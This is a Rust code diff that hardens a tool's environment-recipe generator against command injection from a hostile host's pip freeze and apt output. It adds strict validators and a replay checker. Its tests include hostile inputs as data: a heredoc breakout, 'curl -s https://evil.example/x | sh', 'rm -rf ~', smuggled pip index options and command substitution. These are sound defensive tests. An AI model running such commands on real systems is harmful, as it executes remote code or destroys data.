@@ -85,7 +85,8 @@ pub struct EnvRecipe {
     pub pip_index: Vec<String>,
     /// Packages installed with apt on this machine after it started, still marked manual.
     pub apt_packages: Vec<String>,
-    /// freeze lines that cannot be replayed elsewhere (`-e`, `@ file://`), kept as comments.
+    /// freeze lines that are not a plain `name==version` (`-e`, `@ file://`, a URL, a pip option,
+    /// anything else a machine printed), kept as comments and never replayed.
     pub skipped: Vec<String>,
     /// The recipe as a POSIX sh script.
     pub script: String,
@@ -231,7 +232,7 @@ pub fn apt_added(installs: &[String], manual: &[String]) -> Vec<String> {
                 .split(':')
                 .next()
                 .unwrap_or("");
-            if !name.is_empty()
+            if is_debian_package_name(name)
                 && manual.iter().any(|m| m == name)
                 && !out.iter().any(|o| o == name)
             {
@@ -259,8 +260,75 @@ pub fn torch_index(freeze: &[String], pip_config: &[String]) -> Option<String> {
     }
     pip_config.iter().find_map(|c| {
         let v = c.split_once('=')?.1.trim().trim_matches(['\'', '"']);
-        v.contains("download.pytorch.org").then(|| v.to_string())
+        is_torch_index(v).then(|| v.trim_end_matches('/').to_string())
     })
+}
+
+/// PyTorch's own index and nothing that merely contains its name
+/// (`https://evil.example/?download.pytorch.org` is not it): `https://download.pytorch.org/whl/`
+/// and one channel of lower-case letters, digits and dots (`cu128`, `cpu`, `rocm6.3`, `nightly`).
+pub fn is_torch_index(url: &str) -> bool {
+    url.trim_end_matches('/')
+        .strip_prefix("https://download.pytorch.org/whl/")
+        .is_some_and(|ch| {
+            !ch.is_empty()
+                && ch
+                    .chars()
+                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '.')
+        })
+}
+
+/// A `pip freeze` line that is data and nothing else: `name[extra,…]==version`. A machine's
+/// freeze output is the machine's to write (a hostile host's `pip` prints what it likes), and the
+/// recipe is replayed on ANOTHER machine: pip options (`--index-url`, `-f`, `--trusted-host`),
+/// direct references (`pkg @ https://…`), markers, shell or heredoc text are not a requirement
+/// (security review §1). Names per PEP 508, versions in PEP 440's characters.
+pub fn is_plain_requirement(line: &str) -> bool {
+    let Some((name, version)) = line.split_once("==") else {
+        return false;
+    };
+    let (name, extras) = match name.split_once('[') {
+        Some((n, rest)) => match rest.strip_suffix(']') {
+            Some(x) => (n, Some(x)),
+            None => return false,
+        },
+        None => (name, None),
+    };
+    let name_ok = !name.is_empty()
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
+        && name.starts_with(|c: char| c.is_ascii_alphanumeric())
+        && name.ends_with(|c: char| c.is_ascii_alphanumeric());
+    let extras_ok = extras.is_none_or(|x| {
+        !x.is_empty()
+            && x.chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | ','))
+    });
+    let version_ok = !version.is_empty()
+        && version.starts_with(|c: char| c.is_ascii_alphanumeric())
+        && version
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '!' | '+' | '_' | '-'));
+    name_ok && extras_ok && version_ok
+}
+
+/// A Debian package name (Policy 5.6.1: lower-case letters, digits, `+`, `-`, `.`; two or more
+/// characters, starting with a letter or digit): an apt `Install:` name from a host that is
+/// anything else (`--allow-unauthenticated`, `-o…`) is not replayed.
+pub fn is_debian_package_name(name: &str) -> bool {
+    name.len() >= 2
+        && name.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
+        && name
+            .chars()
+            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '+' | '-' | '.'))
+}
+
+/// A host's text shown in a comment of the recipe: one line, printable.
+fn comment_text(s: &str) -> String {
+    s.chars()
+        .map(|c| if c.is_control() { ' ' } else { c })
+        .collect()
 }
 
 fn is_torch_pkg(line: &str) -> bool {
@@ -281,10 +349,10 @@ pub fn recipe(host: &str, env: &EnvSeen, saved_at: &str) -> Result<EnvRecipe, Co
         if t.starts_with('#') {
             continue;
         }
-        if t.starts_with("-e ") || t.contains(" @ file:") || t.contains("@ file://") {
-            skipped.push(t.to_string());
-        } else {
+        if is_plain_requirement(t) {
             portable.push(t.to_string());
+        } else {
+            skipped.push(comment_text(t));
         }
     }
     let torch_index = torch_index(&env.freeze, &env.pip_config);
@@ -364,20 +432,96 @@ pub fn recipe_script(
         }
     }
     if !rest.is_empty() {
-        s.push_str("# everything else pip had\n\"$PY\" -m pip install -r /dev/stdin <<'GPURENT_REQUIREMENTS'\n");
-        for l in &rest {
-            s.push_str(l);
-            s.push('\n');
-        }
-        s.push_str("GPURENT_REQUIREMENTS\n");
+        // Arguments, each quoted (and each a plain requirement: see `recipe`), never a
+        // heredoc: a host that printed the heredoc's end word ran code on the next machine.
+        let pkgs: Vec<String> = rest.iter().map(|p| q(p)).collect::<Result<_, _>>()?;
+        s.push_str(&format!(
+            "# everything else pip had\n\"$PY\" -m pip install {}\n",
+            pkgs.join(" ")
+        ));
     }
     for l in skipped {
         s.push_str(&format!(
-            "# not replayable here (a local path): {}\n",
-            l.replace('\n', " ")
+            "# not replayed (not a plain name==version: a local path, a URL, an option): {}\n",
+            comment_text(l)
         ));
     }
     Ok(s)
+}
+
+/// Refuse to replay a recipe with any line gpurent does not write itself: a saved recipe is
+/// sent to another machine's `sh`, so it must be the data it claims to be (plain requirements,
+/// Debian package names, PyTorch's own index), whatever the old machine printed or whoever
+/// edited the file. Recipes saved before the heredoc was dropped are read too: their
+/// requirement block must hold plain requirements only and end at its own end word.
+pub fn check_replayable(script: &str) -> Result<(), CoreError> {
+    let bad = |n: usize, why: &str| {
+        Err(CoreError::invalid(
+            "recipe",
+            format!("line {n} of the saved recipe is not one gpurent writes ({why}); save the environment again"),
+        ))
+    };
+    let words = |rest: &str, ok: &dyn Fn(&str) -> bool| -> bool {
+        !rest.is_empty()
+            && rest.split(' ').all(|w| {
+                w.len() >= 2 && w.starts_with('\'') && w.ends_with('\'') && ok(&w[1..w.len() - 1])
+            })
+    };
+    let mut legacy_block = false;
+    for (i, l) in script.lines().enumerate() {
+        let n = i + 1;
+        if legacy_block {
+            if l == "GPURENT_REQUIREMENTS" {
+                legacy_block = false;
+            } else if !is_plain_requirement(l) {
+                return bad(n, "not a plain name==version requirement");
+            }
+            continue;
+        }
+        let l = l.trim_end();
+        if l.is_empty() || l.starts_with('#') {
+            continue;
+        }
+        let fixed = [
+            "set -e",
+            "PY=${PY:-python3}",
+            "if command -v apt-get >/dev/null 2>&1; then",
+            "  SUDO=; [ \"$(id -u)\" = 0 ] || SUDO='sudo -n'",
+            "fi",
+        ];
+        if fixed.contains(&l) {
+            continue;
+        }
+        if l == "\"$PY\" -m pip install -r /dev/stdin <<'GPURENT_REQUIREMENTS'" {
+            legacy_block = true;
+            continue;
+        }
+        if let Some(rest) = l.strip_prefix("  $SUDO apt-get update && $SUDO apt-get install -y ") {
+            if words(rest, &is_debian_package_name) {
+                continue;
+            }
+            return bad(n, "an apt package that is not a Debian package name");
+        }
+        if let Some(rest) = l.strip_prefix("\"$PY\" -m pip install ") {
+            let (pkgs, index) = match rest.split_once(" --index-url ") {
+                Some((p, ix)) => (p, Some(ix)),
+                None => (rest, None),
+            };
+            let index_ok = index.is_none_or(|ix| words(ix, &is_torch_index));
+            if index_ok && words(pkgs, &is_plain_requirement) {
+                continue;
+            }
+            return bad(
+                n,
+                "a pip argument that is not a plain requirement or PyTorch's index",
+            );
+        }
+        return bad(n, "a command");
+    }
+    if legacy_block {
+        return bad(script.lines().count(), "the requirement block has no end");
+    }
+    Ok(())
 }
 
 #[cfg(test)]
@@ -411,13 +555,19 @@ mod tests {
             "{}",
             r.script
         );
-        assert!(r.script.contains("\nnumpy==2.1.3\n"), "{}", r.script);
+        assert!(
+            r.script
+                .contains("\n\"$PY\" -m pip install 'numpy==2.1.3'\n"),
+            "{}",
+            r.script
+        );
+        check_replayable(&r.script).expect("gpurent's own recipe replays");
         assert!(
             r.script.contains("apt-get install -y 'curl' 'htop'"),
             "{}",
             r.script
         );
-        assert!(r.script.contains("# not replayable here"), "{}", r.script);
+        assert!(r.script.contains("# not replayed"), "{}", r.script);
     }
 
     /// The script is valid sh with hostile folder names, and the recipe is valid sh too.
@@ -559,6 +709,146 @@ mod tests {
             !home.join("canary").exists(),
             "a folder name ran as a command"
         );
+    }
+
+    /// Security review §1: a hostile host's `pip freeze` that ends gpurent's heredoc and runs a
+    /// command, hides gpurent's own end word, and slips pip options and a URL in. The recipe RUN
+    /// with `sh` (a stub `$PY` records what it is asked) installs the plain requirements only,
+    /// and runs nothing of the host's.
+    #[cfg(unix)]
+    #[test]
+    fn a_hostile_freeze_never_becomes_code_on_the_next_machine() {
+        let tmp = tempfile::tempdir().expect("tmp");
+        let freeze = [
+            "numpy==1.26.4",
+            "GPURENT_REQUIREMENTS",
+            "touch canary-breakout",
+            ": <<'GPURENT_REQUIREMENTS'",
+            "--index-url https://evil.example/simple",
+            "--extra-index-url=https://evil.example/simple",
+            "-f https://evil.example/wheels",
+            "evilpkg @ https://evil.example/evilpkg-1.0.tar.gz",
+            "requests==2.32.3; touch canary-semicolon",
+            "x==1$(touch canary-subst)",
+            "GPURENT_REQUIREMENTS",
+            "safetensors[torch]==0.4.5",
+        ];
+        let env = EnvSeen {
+            freeze: freeze.iter().map(|l| l.to_string()).collect(),
+            pip_config: vec![
+                "global.index-url='https://evil.example/?download.pytorch.org'".into(),
+            ],
+            apt_manual: vec!["--allow-unauthenticated".into(), "htop".into()],
+            apt_history_installs: vec!["--allow-unauthenticated (1), htop:amd64 (3.0.5)".into()],
+            ..Default::default()
+        };
+        let r = recipe("box", &env, "now").expect("recipe");
+        assert_eq!(
+            r.pip_freeze,
+            vec!["numpy==1.26.4", "safetensors[torch]==0.4.5"]
+        );
+        assert_eq!(r.torch_index, None, "an index that only names pytorch.org");
+        assert_eq!(r.apt_packages, vec!["htop"]);
+        let log = tmp.path().join("py.log");
+        let stub = tmp.path().join("py");
+        std::fs::write(
+            &stub,
+            format!("#!/bin/sh\necho \"$*\" >> '{}'\n", log.display()),
+        )
+        .expect("stub");
+        std::fs::set_permissions(&stub, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+            .expect("chmod");
+        // No apt here: `command -v apt-get` must not find one (an empty PATH but the stub's).
+        let out = std::process::Command::new("/bin/sh")
+            .arg("-c")
+            .arg(&r.script)
+            .current_dir(tmp.path())
+            .env("PY", &stub)
+            .env("PATH", "/nonexistent")
+            .output()
+            .expect("sh");
+        assert!(out.status.success(), "{out:?}\n{}", r.script);
+        for canary in ["canary-breakout", "canary-semicolon", "canary-subst"] {
+            assert!(
+                !tmp.path().join(canary).exists(),
+                "{canary}: the host's text ran as a command:\n{}",
+                r.script
+            );
+        }
+        let asked = std::fs::read_to_string(&log).expect("log");
+        assert_eq!(
+            asked.trim(),
+            "-m pip install numpy==1.26.4 safetensors[torch]==0.4.5",
+            "{}",
+            r.script
+        );
+    }
+
+    #[test]
+    fn only_gpurents_own_lines_replay() {
+        let ok_new = "#!/bin/sh\n# c\nset -e\nPY=${PY:-python3}\nif command -v apt-get >/dev/null 2>&1; then\n  SUDO=; [ \"$(id -u)\" = 0 ] || SUDO='sudo -n'\n  $SUDO apt-get update && $SUDO apt-get install -y 'curl' 'htop'\nfi\n\"$PY\" -m pip install 'torch==2.8.0+cu128' --index-url 'https://download.pytorch.org/whl/cu128'\n\"$PY\" -m pip install 'numpy==2.1.3'\n";
+        check_replayable(ok_new).expect("new format");
+        let ok_legacy = "#!/bin/sh\nset -e\nPY=${PY:-python3}\n\"$PY\" -m pip install -r /dev/stdin <<'GPURENT_REQUIREMENTS'\nnumpy==2.1.3\nGPURENT_REQUIREMENTS\n# not replayable here (a local path): -e x\n";
+        check_replayable(ok_legacy).expect("a recipe saved before");
+        let refused = [
+            // The breakout as an older gpurent saved it.
+            "set -e\n\"$PY\" -m pip install -r /dev/stdin <<'GPURENT_REQUIREMENTS'\nnumpy==1\nGPURENT_REQUIREMENTS\ncurl -s https://evil.example/x | sh\n: <<'GPURENT_REQUIREMENTS'\nGPURENT_REQUIREMENTS\n",
+            "set -e\n\"$PY\" -m pip install -r /dev/stdin <<'GPURENT_REQUIREMENTS'\n--index-url https://evil.example\nGPURENT_REQUIREMENTS\n",
+            "set -e\n\"$PY\" -m pip install -r /dev/stdin <<'GPURENT_REQUIREMENTS'\nnumpy==1\n",
+            "\"$PY\" -m pip install 'evil @ https://evil.example/e.tgz'\n",
+            "\"$PY\" -m pip install 'torch==2.8.0' --index-url 'https://evil.example/?download.pytorch.org'\n",
+            "\"$PY\" -m pip install numpy==1\n",
+            "  $SUDO apt-get update && $SUDO apt-get install -y '--allow-unauthenticated'\n",
+            "rm -rf ~\n",
+        ];
+        for script in refused {
+            let e = check_replayable(script).expect_err(script);
+            assert_eq!(crate::Coded::code(&e), "invalid_input", "{script}");
+        }
+    }
+
+    #[test]
+    fn requirements_indexes_and_apt_names_are_strict() {
+        for ok in [
+            "numpy==2.1.3",
+            "torch==2.8.0+cu128",
+            "a.b_c-d[x,y]==1!2.0.post1",
+            "x==1.0rc1",
+        ] {
+            assert!(is_plain_requirement(ok), "{ok}");
+        }
+        for bad in [
+            "numpy",
+            "numpy>=1",
+            "-e git+https://x",
+            "x @ https://y",
+            "x==1; sys_platform=='linux'",
+            "x==1 --hash=sha256:0",
+            "GPURENT_REQUIREMENTS",
+            "x==",
+            "==1",
+            "x[==1",
+            "x==1$(y)",
+            "x==-1",
+        ] {
+            assert!(!is_plain_requirement(bad), "{bad}");
+        }
+        assert!(is_torch_index("https://download.pytorch.org/whl/cu128"));
+        assert!(is_torch_index("https://download.pytorch.org/whl/rocm6.3/"));
+        for bad in [
+            "https://evil.example/?download.pytorch.org",
+            "https://download.pytorch.org.evil.example/whl/cu128",
+            "http://download.pytorch.org/whl/cu128",
+            "https://download.pytorch.org/whl/cu128/../../x",
+            "https://download.pytorch.org/whl/",
+        ] {
+            assert!(!is_torch_index(bad), "{bad}");
+        }
+        assert!(is_debian_package_name("libnl-3-200"));
+        assert!(is_debian_package_name("g++"));
+        for bad in ["--allow-unauthenticated", "-oDPkg", "A", "x", "Htop", "a b"] {
+            assert!(!is_debian_package_name(bad), "{bad}");
+        }
     }
 
     fn by_status(seen: &Seen, i: usize) -> String {
